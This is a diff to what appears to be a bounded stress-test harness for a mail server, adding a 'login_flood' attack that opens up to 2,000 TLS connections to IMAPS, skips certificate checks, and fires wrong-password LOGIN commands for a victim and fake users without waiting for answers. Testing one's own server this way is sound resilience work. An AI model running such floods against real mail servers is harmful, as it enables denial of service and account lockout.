@@ -1,5 +1,6 @@
 """The attacks. As a program: attacks.py NAME SERVER PORT_OFFSET; says "ready" once it is in full swing and ends when its
 input does. Everything is bounded: connections, octets and rounds."""
+import itertools
 import os
 import random
 import select
@@ -224,6 +225,33 @@ def literals(attack):
             pass
 
 
+def login_flood(attack):
+    """Wrong passwords of names that are there and names that are not, faster than they can be checked."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    numbers = itertools.count()
+
+    def guess():
+        if len(attack.sockets) > 2000:
+            attack.drop(attack.sockets[0])
+        one = attack.connect(IMAPS)
+        if one is None:
+            return
+        number = next(numbers)
+        name = VICTIM if number % 10 == 0 else f"user{number}@example.test"
+        try:
+            attack.sockets.remove(one)
+            one = context.wrap_socket(one)
+            attack.sockets.append(one)
+            one.sendall(f"a LOGIN {name} wrong{number}\r\n".encode())  # and does not wait for the answer
+        except OSError:
+            one.close()
+
+    for _ in range(200):
+        guess()
+    attack.until_ended(guess)
+
+
 def large_mailbox(attack):
     """Commands over all of a mailbox that a user has filled herself."""
     as_a_user(attack, [b"FETCH 1:* (UID FLAGS)", b"STORE 1:* +FLAGS (\\Flagged)", b"STORE 1:* -FLAGS (\\Flagged)",
@@ -272,7 +300,8 @@ def as_a_user(attack, commands):
 
 
 ATTACKS = {attack.__name__: attack
-           for attack in (silent, slowloris, tls_junk, data_held, mime_bomb, rcpt_flood, literals, search, large_mailbox)}
+           for attack in (silent, slowloris, tls_junk, data_held, mime_bomb, rcpt_flood, literals, login_flood, search,
+                          large_mailbox)}
 
 
 def main():
